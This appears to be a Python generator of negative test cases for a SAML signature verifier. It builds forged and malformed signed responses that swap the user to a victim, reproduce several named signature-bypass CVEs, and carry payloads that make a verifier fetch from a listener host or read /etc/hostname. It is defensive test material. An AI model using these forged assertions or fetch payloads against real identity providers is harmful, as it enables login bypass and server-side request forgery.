"""Signatures that say more, or less, than SAML allows, and that would have something fetched."""

import base64
import hashlib
import re
import xml.etree.ElementTree

from documents import (
    ALICE,
    ASSERTION,
    DSIG,
    ENVELOPED,
    EXCLUSIVE,
    HMAC_SHA256,
    INCLUSIVE,
    PROTOCOL,
    RSA_SHA1,
    SHA1,
    VICTIM,
    Response,
    Style,
    hmac_with_certificate,
    reference,
    refused,
    resign,
    sign,
    signature_of,
    signed_info,
    with_key_info,
)
from wrapping import SIGNED


def all(keys):
    group = "signatures"
    key = keys["provider"]
    for signed, where in {name: where for name, where in SIGNED.items() if name != "both-signed"}.items():
        plain = sign(Response().xml(), key, **where)

        def with_info(name, info, **options):
            return refused(group, f"{name}-{signed}", resign(plain, key, info, **options))

        # A control: the same hand makes a good one.
        control = resign(plain, key, signed_info(reference()))
        yield {**refused("genuine", f"by-hand-{signed}", control), "expect": "accept"}

        sha1 = Style(method=RSA_SHA1, digest=SHA1)
        yield refused(group, f"sha1-{signed}", sign(Response().xml(), key, **where, style=sha1))
        yield refused(group, f"sha1-digest-{signed}", sign(Response().xml(), key, **where, style=Style(digest=SHA1)))
        yield refused(group, f"sha1-method-{signed}", sign(Response().xml(), key, **where, style=Style(method=RSA_SHA1)))
        inclusive = f'<ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{INCLUSIVE}"/>'
        yield refused(group, f"inclusive-c14n-{signed}", sign(Response().xml(), key, **where, style=Style(canonicalization=INCLUSIVE)))
        yield refused(group, f"inclusive-transform-{signed}", sign(Response().xml(), key, **where, style=Style(transforms=inclusive)))
        comments = EXCLUSIVE + "WithComments"
        yield refused(group, f"with-comments-{signed}", sign(Response().xml(), key, **where, style=Style(canonicalization=comments)))
        kept = f'<ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{comments}"/>'
        yield refused(group, f"transform-with-comments-{signed}", sign(Response().xml(), key, **where, style=Style(transforms=kept)))
        yield refused(group, f"short-key-{signed}", sign(Response().xml(), keys["short"], **where), certificates=["short"])

        for kind, compute in hmac_with_certificate(key).items():
            info = signed_info(reference(), method=HMAC_SHA256)
            yield with_info(f"hmac-with-{kind}", info, method=compute)
        truncated = "<ds:HMACOutputLength>8</ds:HMACOutputLength>"
        yield with_info("hmac-truncated", signed_info(reference(), method=HMAC_SHA256, more=truncated), value="AA==")
        yield with_info("hmac-output-length", signed_info(reference(), more=truncated))

        yield with_info("no-reference", signed_info(""))
        yield with_info("two-references", signed_info(reference() + reference()))
        other = reference("#_other", digest="AAAA")
        yield with_info("reference-to-nowhere-first", signed_info(other + reference()))
        yield with_info("empty-uri", signed_info(reference("")))
        yield with_info("no-uri", signed_info(reference(None)))
        yield with_info("xpointer-root", signed_info(reference("#xpointer(/)")))
        yield with_info("xpointer-id", signed_info(reference("#xpointer(id('{id}'))")))
        yield with_info("other-uri", signed_info(reference("#_elsewhere")))
        yield with_info("typed-reference", signed_info(reference(attributes=f' Type="{DSIG}Object"')))
        yield with_info("cid", signed_info(reference("cid:{id}")))
        yield with_info("no-transforms", signed_info(reference(transforms=())))
        yield with_info("only-enveloped", signed_info(reference(transforms=(ENVELOPED,))))
        yield with_info("only-exclusive", signed_info(reference(transforms=(EXCLUSIVE,))))
        yield with_info("transforms-turned", signed_info(reference(transforms=(EXCLUSIVE, ENVELOPED))))
        yield with_info("three-transforms", signed_info(reference(transforms=(ENVELOPED, EXCLUSIVE, EXCLUSIVE))))
        yield with_info("base64-transform", signed_info(reference(transforms=(ENVELOPED, DSIG + "base64"))))
        foreign = f'<evil:Transform xmlns:evil="urn:evil" Algorithm="{EXCLUSIVE}"></evil:Transform>'
        yield with_info("foreign-transform", signed_info(reference(transforms=(ENVELOPED, EXCLUSIVE, foreign))))
        yield with_info("unknown-digest", signed_info(reference(digest_method="urn:none")))
        yield with_info("no-digest-method", signed_info(reference(digest_method="")))
        yield with_info("empty-digest-signed", signed_info(reference(digest="")))
        yield with_info("short-digest-signed", signed_info(reference(digest="AAAA")))
        yield with_info("unknown-method", signed_info(reference(), method="urn:none"))
        yield with_info("no-method", signed_info(reference(), method=""))
        yield with_info("void-canonicalization", signed_info(reference(), canonicalization=""))
        yield with_info("unknown-canonicalization", signed_info(reference(), canonicalization="urn:none"))
        yield with_info("void-transform", signed_info(reference(transforms=(ENVELOPED, ""))))
        # Canonicalisation of a relative namespace fails, and what it fails with has been taken for a result: nothing.
        relative = plain.replace("<samlp:Response ", '<samlp:Response xmlns:void="../void" ', 1)
        yield refused(group, f"relative-namespace-{signed}", relative)
        nothing = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
        void = resign(relative.replace(ALICE, VICTIM), key, signed_info(reference(digest=nothing)))
        yield refused(group, f"digest-of-nothing-{signed}", void)
        within = plain.replace('<ds:SignedInfo>', '<ds:SignedInfo xmlns:void="1">', 1)
        yield refused(group, f"relative-namespace-in-signed-info-{signed}", within)

        info = re.search(r"<ds:SignedInfo\b.*?</ds:SignedInfo>", plain, flags=re.DOTALL).group(0)
        value = re.search(r"<ds:SignatureValue\b.*?</ds:SignatureValue>", plain, flags=re.DOTALL).group(0)
        forged = info.replace("<ds:DigestValue>", "<ds:DigestValue>AAAA")
        yield refused(group, f"two-signed-infos-{signed}", plain.replace(info, info + forged, 1))
        yield refused(group, f"two-signed-infos-forged-first-{signed}", plain.replace(info, forged + info, 1))
        yield refused(group, f"nested-signed-info-{signed}", plain.replace(info, f"<ds:Object>{info}</ds:Object>" + forged, 1))
        yield refused(group, f"two-signature-values-{signed}", plain.replace(value, value + value, 1))
        yield refused(group, f"no-signature-value-{signed}", plain.replace(value, "", 1))
        yield refused(group, f"no-signed-info-{signed}", plain.replace(info, "", 1))
        yield refused(group, f"two-signatures-{signed}", plain.replace(signature_of(plain), signature_of(plain) * 2, 1))
        yield refused(group, f"object-in-signature-{signed}", plain.replace("</ds:Signature>", "<ds:Object>x</ds:Object></ds:Signature>", 1))
        # CVE-2025-29775: a comment in the digest.
        digest = re.search(r"<ds:DigestValue>(.*?)</ds:DigestValue>", plain).group(1)
        yield refused(group, f"CVE-2025-29775-comment-in-digest-{signed}", plain.replace(digest, f"<!--{digest}-->{'A' * 43}=", 1))
        yield refused(group, f"comment-after-digest-{signed}", plain.replace(digest, f"{digest}<!-- x -->", 1))
        yield refused(group, f"comment-in-signature-value-{signed}", plain.replace("<ds:SignatureValue>", "<ds:SignatureValue><!-- x -->", 1))
        yield refused(group, f"comment-in-signed-info-{signed}", plain.replace("<ds:SignedInfo>", "<ds:SignedInfo><!-- x -->", 1))
        # CVE-2025-29774: a second SignedInfo in another namespace.
        foreign = info.replace("ds:", "evil:").replace("<evil:SignedInfo", '<evil:SignedInfo xmlns:evil="urn:evil"', 1)
        yield refused(group, f"CVE-2025-29774-foreign-signed-info-{signed}", plain.replace(info, foreign + info, 1))
        # A signature that is one for namesakes only.
        yield refused(group, f"foreign-signature-{signed}", plain.replace(f'xmlns:ds="{DSIG}"', 'xmlns:ds="urn:evil"'))
        # A signature in a place of its own, over the right element.
        signature = signature_of(plain)
        moved = plain.replace(signature, "", 1)
        for place in ("<samlp:Status>", "</saml:Subject>", "</saml:Conditions>", "</saml:AttributeStatement>"):
            wrapped = f"<samlp:Extensions>{signature}</samlp:Extensions>" if place == "<samlp:Status>" else signature
            yield refused(group, f"signature-in-{place.strip('</>').replace(':', '-')}-{signed}", moved.replace(place, wrapped + place, 1))
    # The response's signature is about the assertion, and the other way round.
    document = sign(Response().xml(), key, assertion=True)
    signature = signature_of(document)
    yield refused(group, "signature-of-assertion-in-response", document.replace(signature, "", 1).replace("<samlp:Status>", signature + "<samlp:Status>", 1))
    document = sign(Response().xml(), key, response=True)
    signature = signature_of(document)
    yield refused(group, "signature-of-response-in-assertion", document.replace(signature, "", 1).replace("<saml:Subject>", signature + "<saml:Subject>", 1))
    yield from digests(key)
    yield from key_values(keys)
    yield refused(group, "key-is-of-a-curve", sign(Response().xml(), key, assertion=True), certificates=["curve"])


def digests(key):
    """CVE-2024-45409: the digest of a forged assertion lies about where a careless search finds it before the signed one."""
    genuine = sign(Response().xml(), key, assertion=True)
    forged = genuine.replace(ALICE, VICTIM)
    assertion = re.search(r"<saml:Assertion\b.*</saml:Assertion>", forged, flags=re.DOTALL).group(0)
    bare = assertion.replace(signature_of(forged), "").replace("<saml:Assertion ", f'<saml:Assertion xmlns:saml="{ASSERTION}" ', 1)
    canonical = xml.etree.ElementTree.canonicalize(bare)
    digest = base64.b64encode(hashlib.sha256(canonical.encode()).digest()).decode()
    value = f'<ds:DigestValue xmlns:ds="{DSIG}">{digest}</ds:DigestValue>'
    for name, (old, new) in {
        "extensions": ("<samlp:Status>", f"<samlp:Extensions>{value}</samlp:Extensions><samlp:Status>"),
        "status-detail": ("</samlp:Status>", f"<samlp:StatusDetail>{value}</samlp:StatusDetail></samlp:Status>"),
        "reference": ("<ds:DigestMethod", f"{value}<ds:DigestMethod"),
        "object": ("</ds:Signature>", f"<ds:Object>{value}</ds:Object></ds:Signature>"),
        "key-info": ("<ds:KeyInfo>", f"<ds:KeyInfo>{value}"),
        "before-signed-info": ("<ds:SignedInfo>", f"{value}<ds:SignedInfo>"),
    }.items():
        yield refused("signatures", f"CVE-2024-45409-digest-in-{name}", forged.replace(old, new, 1))


def key_values(keys):
    """CVE-2021-21239: the response brings the key that it is to be verified with."""
    value = keys["attacker"].key_value()
    for signed, where in SIGNED.items():
        forged = sign(Response(name_id=VICTIM).xml(), keys["attacker"], **where)
        for name, key_info in {"alone": value, "named": "<ds:KeyName>provider</ds:KeyName>" + value}.items():
            yield refused("signatures", f"CVE-2021-21239-key-value-{name}-{signed}", with_key_info(forged, key_info))


def fetching(keys, listener):
    group = "fetching"
    key = keys["provider"]
    plain = sign(Response().xml(), key, assertion=True)
    digest_of_x = "LXEWQrcmsEQBYnyp+6wy9chTD7GQPMTbAiWHF5IaSIE="

    def with_references(name, references):
        return refused(group, name, resign(plain, key, signed_info(references)))

    for name, uri in {
        "http": f"http://{listener}/reference",
        "https": f"https://{listener}/reference",
        "file": "file:///etc/hostname",
        "path": "/etc/hostname",
        "relative": "reference.xml",
        "ftp": f"ftp://{listener}/reference",
        "no-scheme": f"//{listener}/reference",
    }.items():
        external = reference(uri, transforms=(), digest=digest_of_x)
        yield with_references(f"external-reference-{name}", external)
        yield with_references(f"external-reference-{name}-first", external + reference())
        yield with_references(f"external-reference-{name}-last", reference() + external)
    key_infos = {
        "retrieval-method": f'<ds:RetrievalMethod URI="http://{listener}/key" Type="{DSIG}X509Data"/>',
        "retrieval-method-raw": f'<ds:RetrievalMethod URI="http://{listener}/key" Type="{DSIG}rawX509Certificate"/>',
        "retrieval-method-file": f'<ds:RetrievalMethod URI="file:///etc/hostname" Type="{DSIG}rawX509Certificate"/>',
        "retrieval-method-local": '<ds:RetrievalMethod URI="#_assertion-1"/>',
        "key-info-reference": f'<dsig11:KeyInfoReference xmlns:dsig11="http://www.w3.org/2009/xmldsig11#" URI="http://{listener}/key"/>',
        "security-token": f'<wsse:SecurityTokenReference xmlns:wsse="urn:wsse"><wsse:Reference URI="http://{listener}/key"/></wsse:SecurityTokenReference>',
        "pgp": "<ds:PGPData><ds:PGPKeyID>AAAA</ds:PGPKeyID></ds:PGPData>",
        "encrypted-key": '<xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/>',
    }
    for name, key_info in key_infos.items():
        # What names the key is not signed: this may be put into any response.
        named = with_key_info(plain, key_info)
        yield refused(group, name, named)
        yield refused(group, f"{name}-forged", named.replace(ALICE, VICTIM))

    xslt = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
        f' version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'http://{listener}/xslt\')"></xsl:copy-of></xsl:template>'
        "</xsl:stylesheet></ds:Transform>"
    )
    xpath = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath>'
        "</ds:Transform>"
    )
    xpath2 = (
        '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2"'
        ' Filter="subtract">//*[local-name()=\'NameID\']</f:XPath></ds:Transform>'
    )
    for name, transform in {"xslt": xslt, "xpath": xpath, "xpath-filter-2": xpath2}.items():
        for position in range(3):
            steps = [ENVELOPED, EXCLUSIVE]
            steps.insert(position, transform)
            yield with_references(f"{name}-transform-{position}", reference(transforms=steps))
        yield with_references(f"{name}-transform-alone", reference(transforms=(transform,)))
        yield with_references(f"{name}-transform-for-exclusive", reference(transforms=(ENVELOPED, transform)))
    location = f'<samlp:Response xsi:schemaLocation="{PROTOCOL} http://{listener}/schema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    yield {**refused(group, "schema-location", plain.replace("<samlp:Response ", location, 1)), "expect": "same"}
